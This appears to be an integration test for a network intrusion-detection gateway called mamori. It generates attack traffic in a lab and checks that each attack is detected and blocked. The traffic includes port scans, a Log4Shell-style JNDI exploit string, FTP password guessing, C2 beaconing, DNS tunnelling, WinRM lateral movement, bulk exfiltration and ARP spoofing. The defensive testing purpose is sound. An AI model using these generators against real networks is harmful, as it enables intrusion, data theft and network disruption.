#!/usr/bin/env python3
"""attacks.py MAMORI BUILD - real traffic through a gateway with mamori on it. What an office does all day gives no incident; each attack gives its
own, and where it may be blocked, a proved block whose drops are counted."""
import os
import shutil
import sys
import tempfile
import time

import day
from office import INTERNET, PC1, PC2, WAN, Office, case, failed, needs, until

MAMORI, BUILD = sys.argv[1:3]

HTTP = """
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        n = int(self.headers.get("Content-Length") or 0)
        while n > 0:
            n -= len(self.rfile.read(min(n, 65536)) or b"x" * n)
        big = self.path.endswith(".deb")
        body = (b"\\x1f\\x8b" + b"package " * 60000) if big else b"<html><body>hello</body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream" if big else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = do_PUT = answer
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H).serve_forever()
"""
DNS = """
import socket, sys, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 53))
while True:
    q, who = s.recvfrom(4096)
    end = 12
    while q[end]: end += q[end] + 1
    question = q[12:end + 5]
    s.sendto(q[:2] + b"\\x81\\x80\\x00\\x01\\x00\\x01\\x00\\x00\\x00\\x00" + question + b"\\xc0\\x0c\\x00\\x01\\x00\\x01\\x00\\x00\\x00\\x3c\\x00\\x04" + socket.inet_aton(sys.argv[1]), who)
"""
ASK = """
import socket, struct, sys, time, hashlib
def ask(name):
    q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0\\0\\1\\0\\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (sys.argv[1], 53))
    try: s.recv(4096)
    except OSError: pass
    s.close()
for i in range(int(sys.argv[3])):
    ask((hashlib.sha256(str(i).encode()).hexdigest()[:44] + "." if sys.argv[2] == "coded" else "www%d." % i) + "t.example.com")
    time.sleep(0.05)
"""
FTP = """
import socketserver
class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 files\\r\\n")
        for line in self.rfile:
            w = line.split()
            c = w[0].upper() if w else b""
            self.wfile.write(b"331 password\\r\\n" if c == b"USER" else b"530 no\\r\\n" if c == b"PASS" and w[-1] != b"right" else b"230 in\\r\\n" if c == b"PASS"
                             else b"221 bye\\r\\n" if c == b"QUIT" else b"200 ok\\r\\n")
            if c == b"QUIT": return
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("", 21), H).serve_forever()
"""
SMTP = """
import asyncore, smtpd
class S(smtpd.SMTPServer):
    def process_message(self, *a, **k): return None
S(("0.0.0.0", 25), None); asyncore.loop()
"""
CONNECT = """
import socket, sys
src, dst, first, n, step = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
for i in range(n):
    s = socket.socket(); s.settimeout(0.3); s.bind((src, 0))
    host, port = (dst, first + i) if step == "port" else (dst.rsplit(".", 1)[0] + "." + str(100 + i), first)
    try: s.connect((host, port))
    except OSError: pass
    s.close()
"""
REQUEST = """
import http.client, sys, time
src, dst, port, path, n, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), float(sys.argv[6])
for i in range(n):
    try:
        c = http.client.HTTPConnection(dst, port, timeout=4, source_address=(src, 0))
        body = sys.argv[8].encode() if len(sys.argv) > 8 else None
        c.request("POST" if body else "GET", path, body, {"User-Agent": sys.argv[7], "Host": dst, **({"Content-Type": "application/soap+xml"} if body else {})})
        c.getresponse().read(); c.close()
    except OSError: pass
    time.sleep(gap)
"""
SINK = """
import socketserver
class H(socketserver.BaseRequestHandler):
    def handle(self):
        while self.request.recv(65536): pass
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("", 8443), H).serve_forever()
"""
SEND = """
import os, socket, sys
s = socket.socket(); s.settimeout(5); s.bind((sys.argv[1], 0))
try:
    s.connect((sys.argv[2], int(sys.argv[3])))
    for i in range(int(sys.argv[4])): s.sendall(os.urandom(1 << 20))
except OSError: pass
s.close()
"""
LOGIN = """
import socket, sys
for i in range(int(sys.argv[3])):
    s = socket.socket(); s.settimeout(4); s.bind((sys.argv[1], 0))
    try:
        s.connect((sys.argv[2], 21)); f = s.makefile("rwb"); f.readline()
        for line in (b"USER admin", b"PASS wrong%d" % i, b"QUIT"):
            f.write(line + b"\\r\\n"); f.flush(); f.readline()
    except OSError: pass
    s.close()
"""
ARP = """
import socket, struct, sys
ip = socket.inet_aton(sys.argv[1]); mac = bytes.fromhex(sys.argv[2].replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
s.send(b"\\xff" * 6 + mac + b"\\x08\\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + mac + ip + b"\\xff" * 6 + ip)
"""


def mac_of(o, ns):
    return o.run(ns, "cat", "/sys/class/net/eth0/address").stdout.strip()


def ordinary_day(o, work):
    """Programs an office runs, as they are (day.py), and small things beside them."""
    for what in ("browses", "mails", "shares", "updates", "calls") if work else ():
        case(f"the_office_{what}", getattr(work, what)(), o.log())
    for k in range(3):
        for path in ("", "a.css", "news/today.html", f"pool/main/p/pkg{k}.deb"):
            o.python(o.pc1, REQUEST, PC1, INTERNET, 80, f"/{path}", 1, 0.1, "Mozilla/5.0 (X11; Linux x86_64)")
    for tool, args in (("curl", ("-s", "-o", "/dev/null")), ("wget", ("-q", "-O", "/dev/null"))):
        for k in range(4):
            o.run(o.pc1, tool, *args, f"http://{INTERNET}/pool/main/c/curl{k}.deb")
    o.python(o.pc1, ASK, INTERNET, "plain", 20)
    o.python(o.pc1, "import ftplib\nf = ftplib.FTP('%s', timeout=5); f.login('kei', 'right'); f.quit()" % PC2)
    o.python(o.pc1, "import smtplib\nfor i in range(3):\n s = smtplib.SMTP('%s', 25, timeout=5); s.sendmail('a@office.example', ['b@office.example'], 'Subject: hi\\r\\n\\r\\nlunch?'); s.quit()"
             % INTERNET)
    o.run(o.pc1, "ping", "-c", "5", "-i", "0.2", INTERNET) if os.path.exists("/usr/bin/ping") else None
    o.python(o.pc1, REQUEST, PC1, PC2, 8080, "/intranet", 12, 0.2, "Mozilla/5.0 (X11; Linux x86_64)")
    o.python(o.pc1, CONNECT, PC1, PC2, 8080, 4, "port")


def servers(o, work):
    for ns, addr, ports in ((o.inet, "0.0.0.0", (8081,) if work else (80, 8081)), (o.pc1, "0.0.0.0", (80,)), (o.pc2, "0.0.0.0", (8080, 5985))):
        for port in ports:
            o.serve_python(ns, HTTP, addr, port)
    if work:
        case("the_office_has_real_servers", work.servers(DNS))
    else:
        o.serve_python(o.inet, DNS, INTERNET)
        o.serve_python(o.inet, SMTP)
    o.serve_python(o.inet, SINK)
    o.serve_python(o.pc1, FTP)
    o.serve_python(o.pc2, FTP)
    probe = "import socket,sys\nsocket.create_connection((sys.argv[1], int(sys.argv[2])), 2).close()"
    return all(until(lambda: o.python(o.gw, probe, a, p).returncode == 0) for a, p in
               ((INTERNET, 80), (INTERNET, 25), (PC1, 80), (PC1, 21), (PC2, 5985), (PC2, 21)))


def found(o, name, rule):
    got = until(lambda: o.evidence(rule))
    case(f"{name}_gives_its_incident", got, o.log())
    return got


def is_stopped(o, name, addr, again):
    """Blocked, proved, and what follows is dropped and counted."""
    case(f"{name}_is_blocked", until(lambda: o.blocked(addr) is not None), o.cli("block", "list")[1] + o.log())
    case(f"{name}_has_its_block_proved", until(lambda: o.proved(addr)), o.log())
    before = o.blocked(addr) or 0
    again()
    case(f"{name}_what_follows_is_dropped_and_counted", until(lambda: (o.blocked(addr) or 0) > before, 30), (before, o.blocked(addr)))


def attacks(o):
    scan = lambda n: o.python(o.inet, CONNECT, f"{WAN}.20", PC1, 6000, n, "port")
    scan(32)
    found(o, "a_port_scan", "port_scan")
    is_stopped(o, "a_port_scan", f"{WAN}.20", lambda: scan(2))
    sweep = lambda n: o.python(o.inet, CONNECT, f"{WAN}.21", PC1, 445, n, "host")
    sweep(28)
    found(o, "a_sweep", "host_sweep")
    is_stopped(o, "a_sweep", f"{WAN}.21", lambda: sweep(2))
    case("who_only_looks_around_is_no_reason_to_call", all(i["unmapped"]["mamori"]["class"] == "no_response_needed" for i, _ in o.evidence("scan") + o.evidence("sweep")),
         [i["unmapped"]["mamori"]["why"] for i, _ in o.evidence("scan") + o.evidence("sweep")])

    src = f"{WAN}.22"
    shot = lambda: o.python(o.inet, REQUEST, src, PC1, 80, "/?q=${jndi:ldap://%s:1389/a}" % src, 2, 0.1, "curl/7.88")
    shot()
    found(o, "an_exploit_request", "9000002")
    is_stopped(o, "an_exploit_request", src, shot)

    src = f"{WAN}.23"
    guess = lambda: o.python(o.inet, LOGIN, src, PC1, 14)
    guess()
    found(o, "password_guessing", "password_guessing")
    is_stopped(o, "password_guessing", src, lambda: o.python(o.inet, LOGIN, src, PC1, 2))

    c2 = f"{WAN}.24"
    poll = lambda: o.python(o.pc1, REQUEST, PC1, c2, 8081, "/submit.php?id=1", 9, 1.2, "Mozilla/4.0 (compatible; MSIE 8.0)")
    poll()
    found(o, "a_beacon", "http_beacon")
    is_stopped(o, "a_beacon", c2, lambda: o.python(o.pc1, REQUEST, PC1, c2, 8081, "/submit.php?id=1", 2, 0.1, "x"))

    tunnel = lambda n: o.python(o.pc1, ASK, f"{WAN}.25", "coded", n)
    tunnel(40)
    found(o, "a_dns_tunnel", "dns_tunnel")
    is_stopped(o, "a_dns_tunnel", f"{WAN}.25", lambda: tunnel(2))

    o.python(o.pc2, REQUEST, PC2, PC1, 80, "/", 1, 0, "x")
    soap = "<s:Envelope xmlns:s='http://www.w3.org/2003/05/soap-envelope'><s:Body><rsp:Shell/></s:Body></s:Envelope>"
    o.python(o.pc1, REQUEST, PC1, PC2, 5985, "/wsman", 4, 0.2, "Microsoft WinRM Client", soap)
    found(o, "remote_administration_between_two_pcs", "lateral")

    out = f"{WAN}.26"
    send = lambda n: o.python(o.pc2, SEND, PC2, out, 8443, n)
    send(1)
    time.sleep(2)
    send(6)
    found(o, "data_leaving", "exfiltration")
    is_stopped(o, "data_leaving", out, lambda: send(1))

    a, b = mac_of(o, o.pc1), mac_of(o, o.pc2)
    for _ in range(6):
        o.python(o.pc2, ARP, PC1, b)
        o.python(o.pc1, ARP, PC1, a)
    found(o, "arp_spoofing", "arp_spoofing")


def replace_list(folder, *addresses):
    with open(f"{folder}/new", "w") as f:
        f.write("".join(a + "\n" for a in addresses))
    os.chmod(f"{folder}/new", 0o644)
    os.rename(f"{folder}/new", f"{folder}/c2.txt")


def indicators(o, lists):
    """A list that was replaced while it is in use."""
    replace_list(lists, f"{WAN}.30")

    def call(addr):
        o.python(o.pc2, REQUEST, PC2, addr, 80, "/", 1, 0, "x")
        return o.evidence("indicator.address")
    got = until(lambda: call(f"{WAN}.30"))
    case("an_address_of_a_replaced_list_gives_its_incident", got, o.log())
    is_stopped(o, "a_listed_address", f"{WAN}.30", lambda: call(f"{WAN}.30"))


def coverage(o):
    def measured():
        rc, out, _ = o.cli("coverage", "net", "--json")
        return rc == 0 and '"not_measured":[]' in out.replace(" ", "") and out
    case("both_directions_and_losses_are_measured", until(measured, 60), o.cli("coverage", "net", "--json")[1])
    case("machines_nobody_listed_are_gaps", until(lambda: PC1 in o.cli("coverage", "ep", "--json")[1] and PC2 in o.cli("coverage", "ep", "--json")[1]),
         o.cli("coverage", "ep", "--json")[1])


def main():
    needs("curl", "wget")
    lists = tempfile.mkdtemp(prefix="mamori-lists-")  # read by a user of its own
    os.chmod(lists, 0o755)
    replace_list(lists, f"{WAN}.38")
    # a machine's own history takes days to learn: here a second of it is enough
    o = Office(MAMORI, {"plugins": {"behaviour": {"config": {"exfil_floor": "4M", "exfil_history": "1s"}},
                                    "indicator": {"plugin": "org.mamori.indicator", "side": "network", "host": "network",
                                                  "config": {"lists": [f"{lists}/c2.txt;name=known bad;potential=high"], "check": "1s"}}}})
    missing = [p for p in day.PROGRAMS if not shutil.which(p)]
    if missing:
        print(f"[  SKIPPED ] what an office does all day by real programs: needs {' '.join(missing)}")
    try:
        work = None if missing else day.Day(o)
        case("the_gateway_watches", o.start(), o.log())
        case("the_office_has_its_servers", servers(o, work))
        ordinary_day(o, work)
        time.sleep(5)  # the longest a finding waits for its batch
        case("an_ordinary_day_gives_no_incident", not o.incidents(), [i["unmapped"]["mamori"].get("evidence") for i in o.incidents()])
        coverage(o)
        attacks(o)
        indicators(o, lists)
        case("no_part_fell", all(h["state"] == "running" for h in (o.status() or {"hosts": [{"state": "gone"}]})["hosts"]), o.log())
    finally:
        o.end()
        shutil.rmtree(lists, ignore_errors=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
